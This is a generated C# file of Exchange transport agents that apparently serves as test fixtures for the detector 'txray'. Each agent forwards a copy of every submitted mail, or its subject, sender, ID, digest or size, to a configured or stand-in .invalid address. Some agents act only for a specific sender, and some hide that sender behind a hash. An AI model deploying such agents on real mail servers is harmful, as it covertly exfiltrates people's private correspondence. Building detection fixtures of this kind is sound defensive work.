// Written by samples/build/matrix.mjs for the tests of txray: one agent for each grade of mail data and each guard, one sink.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are this machine. What a person decides of each stands in test/matrix.json.
using System;
using System.Configuration;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

[assembly: AssemblyTitle("Matrix for the tests of txray: new mail")]
[assembly: AssemblyCompany("txray")]
[assembly: AssemblyVersion("1.0.0.0")]

namespace Txray.Matrix.ToNewMail
{
    public class ContentAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentAimed(server);
        }
    }

    public class ContentAimed : RoutingAgent
    {
        private readonly SmtpServer server;

        public ContentAimed(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                stream.Write(data, 0, data.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class ContentHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentHidden(server);
        }
    }

    public class ContentHidden : RoutingAgent
    {
        private readonly SmtpServer server;

        public ContentHidden(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                stream.Write(data, 0, data.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class ContentFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentFixedPlace(server);
        }
    }

    public class ContentFixedPlace : RoutingAgent
    {
        private readonly SmtpServer server;

        public ContentFixedPlace(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", "notify@post.example.invalid"));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                stream.Write(data, 0, data.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class ContentOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ContentOpen(server);
        }
    }

    public class ContentOpen : RoutingAgent
    {
        private readonly SmtpServer server;

        public ContentOpen(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                stream.Write(data, 0, data.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class TextAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextAimed(server);
        }
    }

    public class TextAimed : RoutingAgent
    {
        private readonly SmtpServer server;

        public TextAimed(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.Message.Subject;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class TextHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextHidden(server);
        }
    }

    public class TextHidden : RoutingAgent
    {
        private readonly SmtpServer server;

        public TextHidden(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.Message.Subject;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class TextFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextFixedPlace(server);
        }
    }

    public class TextFixedPlace : RoutingAgent
    {
        private readonly SmtpServer server;

        public TextFixedPlace(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.Subject;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", "notify@post.example.invalid"));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class TextOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new TextOpen(server);
        }
    }

    public class TextOpen : RoutingAgent
    {
        private readonly SmtpServer server;

        public TextOpen(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.Subject;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class AddressAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressAimed(server);
        }
    }

    public class AddressAimed : RoutingAgent
    {
        private readonly SmtpServer server;

        public AddressAimed(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.FromAddress.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class AddressHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressHidden(server);
        }
    }

    public class AddressHidden : RoutingAgent
    {
        private readonly SmtpServer server;

        public AddressHidden(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.FromAddress.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class AddressFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressFixedPlace(server);
        }
    }

    public class AddressFixedPlace : RoutingAgent
    {
        private readonly SmtpServer server;

        public AddressFixedPlace(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.FromAddress.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", "notify@post.example.invalid"));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class AddressOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new AddressOpen(server);
        }
    }

    public class AddressOpen : RoutingAgent
    {
        private readonly SmtpServer server;

        public AddressOpen(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.FromAddress.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class IdAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdAimed(server);
        }
    }

    public class IdAimed : RoutingAgent
    {
        private readonly SmtpServer server;

        public IdAimed(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.Message.MessageId;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class IdHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdHidden(server);
        }
    }

    public class IdHidden : RoutingAgent
    {
        private readonly SmtpServer server;

        public IdHidden(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.Message.MessageId;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class IdFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdFixedPlace(server);
        }
    }

    public class IdFixedPlace : RoutingAgent
    {
        private readonly SmtpServer server;

        public IdFixedPlace(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.MessageId;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", "notify@post.example.invalid"));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class IdOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new IdOpen(server);
        }
    }

    public class IdOpen : RoutingAgent
    {
        private readonly SmtpServer server;

        public IdOpen(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.Message.MessageId;
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class DigestAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestAimed(server);
        }
    }

    public class DigestAimed : RoutingAgent
    {
        private readonly SmtpServer server;

        public DigestAimed(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class DigestHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestHidden(server);
        }
    }

    public class DigestHidden : RoutingAgent
    {
        private readonly SmtpServer server;

        public DigestHidden(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class DigestFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestFixedPlace(server);
        }
    }

    public class DigestFixedPlace : RoutingAgent
    {
        private readonly SmtpServer server;

        public DigestFixedPlace(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", "notify@post.example.invalid"));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class DigestOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new DigestOpen(server);
        }
    }

    public class DigestOpen : RoutingAgent
    {
        private readonly SmtpServer server;

        public DigestOpen(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = Hash.Of(e.MailItem.GetMimeReadStream());
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class MeasureAimedFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureAimed(server);
        }
    }

    public class MeasureAimed : RoutingAgent
    {
        private readonly SmtpServer server;

        public MeasureAimed(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }
            string data = e.MailItem.MimeStreamLength.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class MeasureHiddenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureHidden(server);
        }
    }

    public class MeasureHidden : RoutingAgent
    {
        private readonly SmtpServer server;

        public MeasureHidden(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }
            string data = e.MailItem.MimeStreamLength.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class MeasureFixedPlaceFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureFixedPlace(server);
        }
    }

    public class MeasureFixedPlace : RoutingAgent
    {
        private readonly SmtpServer server;

        public MeasureFixedPlace(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.MimeStreamLength.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", "notify@post.example.invalid"));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    public class MeasureOpenFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new MeasureOpen(server);
        }
    }

    public class MeasureOpen : RoutingAgent
    {
        private readonly SmtpServer server;

        public MeasureOpen(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string data = e.MailItem.MimeStreamLength.ToString();
            EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ConfigurationManager.AppSettings["Notify"]));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                byte[] bytes = Encoding.UTF8.GetBytes(data);
                stream.Write(bytes, 0, bytes.Length);
            }
            server.SubmitMessage(message);
        }
    }

    internal static class Hash
    {
        public static string Of(string text)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(Encoding.UTF8.GetBytes(text))).Replace("-", "").ToLower();
            }
        }

        public static string Of(Stream stream)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(stream)).Replace("-", "");
            }
        }
    }
}
